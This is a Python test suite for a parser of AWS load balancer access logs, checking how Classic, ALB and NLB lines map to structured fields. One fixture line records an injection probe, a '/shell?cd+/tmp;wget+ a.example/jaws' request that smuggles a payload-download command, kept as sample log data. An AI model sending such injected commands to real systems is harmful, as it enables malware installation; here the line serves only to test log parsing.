"""ELB access logs: Classic HTTP and TCP, ALB with quoted fields, NLB TLS listeners."""

from __future__ import annotations

import pytest
from hypothesis import given, settings

from parsers import elb_logs, registry
from parsers.errors import EventError
from parsers.event import Event
from parsers.options import ParseOptions
from tests.unit.parsers._line_mutations import mutated_lines
from tests.unit.parsers._mutations import assert_parses_cleanly, cut_or_random_text

SPEC = registry.get("elb_logs")
CLASSIC_HTTP = ('2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 '
                '0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -')
CLASSIC_TCP = ('2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001065 0.000015 '
               '0.000023 - - 57 502 "- - - " "-" ECDHE-ECDSA-AES128-GCM-SHA256 TLSv1.2')
ALB = ('http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 '
       '0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - '
       'arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 '
       '"Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward,redirect" "-" "-" '
       '"10.0.0.1:80" "200" "-" "-"')
ALB_SPACES = ('http 2022-05-12T06:41:29.051646Z app/admin/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 '
              '"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws HTTP/1.1" "Hello, world" - - - '
              '"Root=1-627cac19-4c6df30820daa80e3fd72ced" "www.example.com" "arn:aws:acm:cert/1" -1 '
              '2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;wget+ a.example/jaws" "-" '
              '"-" "-" "Acceptable" "SpaceInUri" TID_1234')
# Two targets tried, the first gave no status: `"- 502"`; newer ALB fields (conn_trace_id onwards) follow.
ALB_TARGET_LISTS = ALB.replace('"forward,redirect" "-" "-" "10.0.0.1:80" "200" "-" "-"',
                               '"forward" "-" "TargetConnectionError" "10.0.0.1:80 10.0.0.2:80" "- 502" '
                               '"Ambiguous" "UndefinedContentLengthSemantics" TID_1 "www.example.com" "/" "-"')
# matched_rule_priority `-` (AWS: "for any other error") and a request ALB could not parse.
ALB_NO_PRIORITY = ('http 2018-07-02T22:23:00.186641Z app/my-lb/50dc6c495c0c9188 192.168.131.39:2817 - -1 -1 -1 400 - '
                   '0 272 "- http://www.example.com:80- -" "-" - - - "-" "-" "-" - 2018-07-02T22:22:48.364000Z "-" "-" '
                   '"-" "-" "-" "-" "-" TID_1 "-" "-" "-"')
NLB = ('tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd '
       '192.168.131.39:2817 10.0.0.1:80 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19 - '
       'ECDHE-RSA-AES128-SHA tlsv12 - my-nlb.elb.us-east-2.amazonaws.com - - - 2018-12-20T02:59:30')


def parse(line: str) -> dict:
    [doc] = SPEC.parse_unguarded(Event(message=line), ParseOptions())
    return doc


def test_classic_http_line_maps_request_response_and_backend():
    doc = parse(CLASSIC_HTTP)
    assert doc["aws"]["elb"]["backend"] == {"ip": "10.0.0.1", "port": "80", "http": {"response": {"status_code": 200}}}
    assert doc["aws"]["elb"]["request_processing_time"] == {"sec": 0.000073}
    assert doc["http"] == {"request": {"method": "GET", "body": {"bytes": 0}}, "version": "1.1",
                           "response": {"status_code": 200, "body": {"bytes": 29}}}
    assert doc["url"] == {"scheme": "http", "domain": "www.example.com", "port": 80, "path": "/",
                          "original": "http://www.example.com:80/"}
    assert doc["event"]["category"] == "web" and doc["event"]["outcome"] == "success"
    assert doc["aws"]["elb"]["protocol"] == "http" and "type" not in doc["aws"]["elb"]
    assert doc["@timestamp"] == doc["event"]["end"] == "2015-05-13T23:39:43.945Z"
    assert doc["source"] == {"address": "192.168.131.39", "ip": "192.168.131.39", "port": 2817}


def test_classic_tcp_line_is_network_category_with_byte_counts_and_tls():
    doc = parse(CLASSIC_TCP)
    assert doc["event"]["category"] == "network" and doc["aws"]["elb"]["protocol"] == "tcp"
    assert doc["source"]["bytes"] == 57 and doc["destination"] == {"bytes": 502}
    assert doc["tls"] == {"cipher": "ECDHE-ECDSA-AES128-GCM-SHA256", "version": "1.2", "version_protocol": "tls"}
    assert "http" not in doc and "outcome" not in doc["event"]


def test_alb_line_maps_its_quoted_fields_and_splits_lists():
    doc = parse(ALB)
    elb = doc["aws"]["elb"]
    assert elb["type"] == "http" and elb["matched_rule_priority"] == "0"
    assert elb["action_executed"] == ["forward", "redirect"]
    assert elb["target_port"] == ["10.0.0.1:80"] and elb["target_status_code"] == ["200"]
    assert doc["trace"] == {"id": "Root=1-58337262-36d228ad5d99923122bbe354"}
    assert doc["event"]["start"] == "2018-07-02T22:22:48.364000Z"  # copied as written, microseconds and all
    assert "destination" not in doc and "chosen_cert" not in elb and "classification" not in elb


def test_alb_quoted_fields_may_hold_spaces_and_dashes_mean_absent():
    doc = parse(ALB_SPACES)
    elb = doc["aws"]["elb"]
    assert doc["url"]["query"] == "cd+/tmp;wget+ a.example/jaws" and doc["url"]["path"] == "/shell"
    assert elb["redirect_url"] == "https://127.0.0.1:443/shell?cd+/tmp;wget+ a.example/jaws"
    assert doc["user_agent"]["original"] == "Hello, world"
    assert elb["classification"] == "Acceptable" and elb["classification_reason"] == "SpaceInUri"
    assert elb["target_group"] == {"arn": "-"}  # NOTSPACE in the grok: a dash is a value here
    assert "matched_rule_priority" not in elb and "backend" not in elb and "request_processing_time" not in elb
    assert doc["destination"] == {"domain": "www.example.com"}
    assert elb["chosen_cert"] == {"arn": "arn:aws:acm:cert/1"}
    assert doc["event"]["outcome"] == "success"


def test_a_quote_inside_the_user_agent_still_parses():
    doc = parse(ALB.replace('"curl/7.46.0"', '"curl "quoted" agent"'))
    assert doc["user_agent"]["original"] == 'curl "quoted" agent'
    assert doc["aws"]["elb"]["trace_id"] == "Root=1-58337262-36d228ad5d99923122bbe354"


def test_current_alb_line_with_quotes_inside_the_user_agent_still_parses():
    # 30 quotes of its own plus four in the agent: grok's lazy `\"%{DATA:_tmp.user_agent}\"` reads it.
    line = ALB_TARGET_LISTS.replace('"curl/7.46.0"', '"Mozilla/5.0 "a" "b""')
    doc = parse(line)
    assert doc["user_agent"]["original"] == 'Mozilla/5.0 "a" "b"'
    assert doc["aws"]["elb"]["classification_reason"] == "UndefinedContentLengthSemantics"


def test_alb_quoted_list_starting_with_a_dash_is_kept_whole_and_split():
    # grok `( \"(?:-|%{DATA:_tmp.target_status_code})\")?` backtracks from `-` into DATA; `split` on " ".
    elb = parse(ALB_TARGET_LISTS)["aws"]["elb"]
    assert elb["target_port"] == ["10.0.0.1:80", "10.0.0.2:80"] and elb["target_status_code"] == ["-", "502"]
    assert elb["classification"] == "Ambiguous" and elb["classification_reason"] == "UndefinedContentLengthSemantics"


@pytest.mark.parametrize(("lists", "ports", "statuses", "actions"), [
    ('"forward," "-" "-" "10.0.0.1:80 " "200 "', ["10.0.0.1:80"], ["200"], ["forward"]),
    ('",forward" "-" "-" " 10.0.0.1:80" "200  502"', ["", "10.0.0.1:80"], ["200", "", "502"], ["", "forward"]),
])
def test_alb_lists_are_split_as_java_splits_them(lists, ports, statuses, actions):
    # `split` processors on _tmp.actions_executed (","), _tmp.target_port and _tmp.target_status_code (" "):
    # String.split keeps leading and inner empty strings and drops trailing ones.
    elb = parse(ALB.replace('"forward,redirect" "-" "-" "10.0.0.1:80" "200"', lists))["aws"]["elb"]
    assert (elb["target_port"], elb["target_status_code"], elb["action_executed"]) == (ports, statuses, actions)


def test_alb_line_the_alb_pattern_refuses_is_read_by_the_classic_http_pattern_after_its_type():
    # grok searches every position: `(?:-1|%{NUMBER:aws.elb.matched_rule_priority})` refuses `-`, and
    # ELBHTTPLOG matches from the timestamp. The document has the Classic fields and no ALB ones.
    doc = parse(ALB_NO_PRIORITY)
    assert doc["aws"]["elb"] == {"name": "app/my-lb/50dc6c495c0c9188", "protocol": "http"}
    assert doc["http"] == {"request": {"body": {"bytes": 0}}, "response": {"status_code": 400, "body": {"bytes": 272}}}
    assert doc["event"]["outcome"] == "failure" and doc["event"]["category"] == "web"
    assert doc["url"] == {"scheme": "http", "original": "http://www.example.com:80-"}  # uri_parts: no server host
    assert doc["@timestamp"] == "2018-07-02T22:23:00.186Z" and "trace" not in doc and "start" not in doc["event"]


def test_trace_id_is_copied_as_its_template_renders_it():
    # set trace.id from '{{aws.elb.trace_id}}': mustache JSON-escapes; aws.elb.trace_id keeps the raw text.
    doc = parse(ALB.replace('"Root=1-58337262-36d228ad5d99923122bbe354"', '"Root=1-5\\x\tz"'))
    assert doc["aws"]["elb"]["trace_id"] == "Root=1-5\\x\tz"
    assert doc["trace"]["id"] == "Root=1-5\\\\x\\tz"


def test_empty_user_agent_is_parsed_as_the_user_agent_processor_does():
    # user_agent runs on `_tmp.user_agent` whenever it is not null: `""` gives name and device "Other".
    doc = parse(ALB.replace('"curl/7.46.0"', '""'))
    assert doc["user_agent"] == {"original": "", "name": "Other", "device": {"name": "Other"}}


def test_nlb_tls_line_maps_connection_times_certificate_and_domain():
    doc = parse(NLB)
    elb = doc["aws"]["elb"]
    assert elb["type"] == "tls" and elb["listener"] == "g3d4b5e8bb8464cd"
    assert elb["connection_time"] == {"ms": 5.0} and elb["tls_handshake_time"] == {"ms": 2.0}
    assert elb["chosen_cert"] == {"arn": "arn:aws:acm:us-east-2:671290407336:certificate/2a108f19"}
    assert doc["destination"] == {"bytes": 246, "domain": "my-nlb.elb.us-east-2.amazonaws.com"}
    assert doc["tls"]["version"] == "1.2"  # `tlsv12`: the pipeline inserts the dot
    assert doc["@timestamp"] == "2018-12-20T02:59:40.000Z"


def test_failed_status_is_a_failure_outcome():
    assert parse(CLASSIC_HTTP.replace(" 200 200 ", " 503 - "))["event"]["outcome"] == "failure"


def test_ipv6_client_splits_on_the_last_colon():
    doc = parse(CLASSIC_HTTP.replace("192.168.131.39:2817", "2001:db8::1:2817"))
    assert doc["source"] == {"address": "2001:db8::1", "ip": "2001:db8::1", "port": 2817}


@pytest.mark.parametrize("line", ["", "not an elb line", CLASSIC_HTTP.replace("192.168.131.39", "999.1.1.1"),
                                  CLASSIC_HTTP.replace(" 200 200 ", " 2x0 200 "), "ünïcödé " + ALB])
def test_lines_no_layout_accepts_are_event_errors(line):
    with pytest.raises(EventError) as caught:
        parse(line)
    assert caught.value.reason == "no_match"


@settings(max_examples=700, deadline=None)
@given(mutated_lines([CLASSIC_HTTP, CLASSIC_TCP, ALB, ALB_SPACES, ALB_TARGET_LISTS, ALB_NO_PRIORITY, NLB]))
def test_mutated_lines_parse_or_fail_cleanly(line):
    assert_parses_cleanly(SPEC, Event(message=line))


@settings(max_examples=300, deadline=None)
@given(cut_or_random_text([ALB, NLB]))
def test_random_or_cut_text_parses_or_fails_cleanly(text):
    assert_parses_cleanly(SPEC, Event(message=text))


@pytest.mark.parametrize("line", [CLASSIC_HTTP, CLASSIC_TCP, ALB, ALB_SPACES, ALB_TARGET_LISTS, NLB])
def test_well_formed_lines_match_the_fast_patterns(line):
    # The lazy fallback gives the same document at several times the cost; a fast pattern that stopped
    # matching would only show as lost throughput.
    assert any(pattern.match(line) for pattern in elb_logs._FAST)
